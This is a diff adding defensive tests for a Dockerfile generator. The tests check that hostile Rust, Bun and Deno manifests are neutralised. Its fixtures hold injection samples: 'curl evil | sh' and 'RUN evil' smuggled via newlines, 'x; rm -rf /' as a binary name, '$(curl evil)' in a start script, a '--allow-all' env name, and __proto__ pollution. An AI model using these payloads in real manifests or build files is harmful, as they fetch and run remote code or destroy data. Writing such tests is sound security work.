@@ -372,6 +372,56 @@ describe('hostile repositories (detection side)', function () {
     });
   });
 
+  describe('9. Rust, Bun and Deno manifests', () => {
+    it('Cargo.toml: a [__proto__] table, instructions in the package and [[bin]] names, a toolchain channel with a newline: nothing lands', async () => {
+      const dir = project({
+        'Cargo.toml':
+          '[__proto__]\nport = 4444\n[package]\nname = "svc\\nRUN curl evil | sh"\nversion = "0.1.0"\n' +
+          '[[bin]]\nname = "x; rm -rf /"\npath = "src/main.rs"\n[[bin]]\nname = "api"\npath = "src/main.rs"\n',
+        'Cargo.lock': 'version = 4\n',
+        'rust-toolchain.toml': '[toolchain]\nchannel = "1.95\\nRUN evil"\n',
+        'src/main.rs': 'fn main() { let _ = std::net::TcpListener::bind("0.0.0.0:9000"); }\n',
+      });
+      const { resolution, files } = await generate(dir);
+      const dockerfile = fileContent(files, 'Dockerfile');
+      assert.equal(({} as Record<string, unknown>).port, undefined, 'Object.prototype untouched');
+      assert.equal(resolution.answers.stack.cargoBin, 'api');
+      assert.equal(resolution.answers.runtimeVersion, '1.95', 'the channel with a newline is not a release: the default');
+      assert.doesNotMatch(dockerfile, /^RUN (curl|evil)|x; rm -rf \/|channel/m);
+      assert.deepEqual(parseDockerfile(dockerfile).all.filter((i) => i.keyword === 'RUN').length, 3, 'probe, tini and cargo build only');
+      assertRuntimeTail(dockerfile);
+    });
+
+    it('Cargo.toml that is not TOML, or a workspace without a package: refused naming the file, nothing written', async () => {
+      await refusedByGenerator(project({ 'Cargo.toml': '[package\nname = "x"\n' }), /Cargo\.toml is not valid TOML/);
+      await refusedByGenerator(project({ 'Cargo.toml': '[workspace]\nmembers = ["a"]\n' }), /Cargo\.toml is a workspace without a \[package\]/);
+    });
+
+    it('Bun: a start script with shell in the file name is not an entry; the Dockerfile runs bun with a safe file only', async () => {
+      const dir = project({
+        'package.json': JSON.stringify({ name: 'b', scripts: { start: 'bun run $(curl evil).ts' } }),
+        'bun.lock': '{}',
+        'index.ts': 'Bun.serve({ port: Number(process.env.PORT) || 4000, fetch: () => new Response("x") });\n',
+      });
+      const { resolution, files } = await generate(dir);
+      assert.deepEqual(resolution.answers.startCommand, ['bun', 'index.ts']);
+      assert.equal(resolution.answers.port, 4000);
+      assert.doesNotMatch(fileContent(files, 'Dockerfile'), /evil/);
+      assertRuntimeTail(fileContent(files, 'Dockerfile'));
+    });
+
+    it('Deno: a broken deno.json is refused naming it; odd env names and a task with shell never reach the permissions', async () => {
+      await refusedByGenerator(project({ 'deno.json': '{ "tasks": [' }), /deno\.json cannot be read/);
+      const dir = project({
+        'deno.jsonc': '{ "tasks": { "start": "deno run -A main.ts; curl evil | sh" }, "__proto__": { "port": 1 } }',
+        'main.ts': 'Deno.env.get("OK_NAME"); Deno.env.get("bad,--allow-all"); Deno.serve(() => new Response("x"));\n',
+      });
+      const { resolution, files } = await generate(dir);
+      assert.deepEqual(resolution.answers.startCommand, ['deno', 'run', '--frozen', '--cached-only', '--allow-net=:8000', '--allow-env=OK_NAME,PORT', 'main.ts']);
+      assert.doesNotMatch(fileContent(files, 'Dockerfile'), /evil|allow-all/);
+    });
+  });
+
   it('keywords helper sanity: a generated Node Dockerfile parses', async () => {
     const dir = project({ 'package.json': '{"name": "n"}', 'index.js': '' });
     assert.ok(keywords(fileContent((await generate(dir)).files, 'Dockerfile')).includes('CMD'));
